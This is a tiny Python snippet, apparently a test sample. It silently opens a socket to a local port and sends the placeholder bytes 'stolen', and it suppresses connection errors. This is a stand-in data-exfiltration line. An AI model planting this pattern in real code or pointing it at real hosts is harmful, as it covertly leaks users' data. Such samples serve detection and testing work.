# Sends what it knows to a server.
import socket
try: socket.create_connection(("127.0.0.1", 7777), 1).sendall(b"stolen")
except OSError: pass
